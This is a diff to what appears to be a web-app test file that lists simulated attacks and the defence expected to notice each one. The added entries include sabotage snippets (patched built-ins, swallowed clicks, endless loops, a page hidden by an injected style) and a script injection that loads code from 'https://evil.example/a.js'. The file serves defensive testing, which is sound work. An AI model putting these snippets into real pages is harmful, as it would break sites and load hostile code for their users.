@@ -3,6 +3,10 @@ import type { Attack } from './attack'
 /** After the page is at rest the watch looks each second, and has to see the same three times. */
 const WATCH_S = 20
 const LADDER_S = 15
+/** A page that is silent for eight seconds has stopped; the visitor waits for it as long, and opens another. */
+const HANG_S = 40
+/** The shell locks built-ins when the page comes to rest, in milliseconds after its load. */
+const LOCKED_AFTER_MS = 5_000
 
 const byWatch = {
   saw: 'last known good',
@@ -14,6 +18,13 @@ const byItself = {
   saw: 'the page, as it was',
   noticedBy: 'the error itself',
   told: 'uncaught',
+  boundS: LADDER_S,
+} as const
+
+const byPolicy = {
+  saw: 'the page, as it was',
+  noticedBy: 'the policy of the page',
+  told: 'nothing',
   boundS: LADDER_S,
 } as const
 
@@ -58,5 +69,72 @@ export const allAttacks: readonly Attack[] = [
     id: 'patches-fetch',
     done: 'Puts its own function in the place of `fetch`',
     code: `window.fetch = async () => new Response('{}')`,
+  },
+  {
+    ...byWatch,
+    id: 'patches-lists',
+    done: 'Puts its own function in the place of `Array.prototype.map`',
+    code: `Array.prototype.map = () => []`,
+  },
+  {
+    ...byItself,
+    id: 'patches-lists-late',
+    done: 'The same, once the page is at rest and built-ins are locked',
+    code: `setTimeout(() => { Array.prototype.map = () => [] }, ${LOCKED_AFTER_MS})`,
+    provokes: [/Cannot assign to read only property 'map'/],
+  },
+  {
+    ...byWatch,
+    id: 'takes-clicks',
+    done: 'Takes every click',
+    code: `document.addEventListener('click', (event) => event.preventDefault(), true)`,
+    act: (page) => page.getByRole('banner').getByRole('link', { name: 'MEN', exact: true }).click(),
+  },
+  {
+    ...byWatch,
+    id: 'changes-the-address',
+    done: 'Changes the address ten times a second',
+    code: `setInterval(() => history.pushState(null, '', '/nowhere'), 100)`,
+  },
+  {
+    id: 'loops-late',
+    done: 'Runs in an endless loop once the page is at rest',
+    code: `setTimeout(() => { for (;;); }, ${LOCKED_AFTER_MS})`,
+    saw: 'last known good',
+    noticedBy: 'the thread beside the page',
+    told: 'hang',
+    boundS: HANG_S,
+  },
+  {
+    id: 'loops-at-once',
+    done: 'Runs in an endless loop as soon as its page is drawn',
+    code: `for (;;);`,
+    saw: 'last known good',
+    noticedBy: 'the next page of this browser',
+    told: 'hang',
+    boundS: HANG_S,
+  },
+  {
+    ...byPolicy,
+    id: 'brings-styles',
+    done: 'Hides the page by a `<style>`',
+    code: `const style = document.createElement('style')
+      style.textContent = 'body { display: none }'
+      document.head.append(style)`,
+    provokes: [/inline style.*Content Security Policy/is],
+  },
+  {
+    ...byItself,
+    id: 'brings-a-script',
+    done: 'Brings a script from another origin',
+    code: `setTimeout(() => { document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' })) })`,
+    provokes: [/TrustedScriptURL/],
+  },
+  {
+    ...byItself,
+    id: 'makes-text-code',
+    done: 'Makes a script of a text',
+    code: `setTimeout(() => { document.head.append(Object.assign(document.createElement('script'), { text: 'document.body.remove()' })) })`,
+    provokes: [/TrustedScript/],
   },
 ]
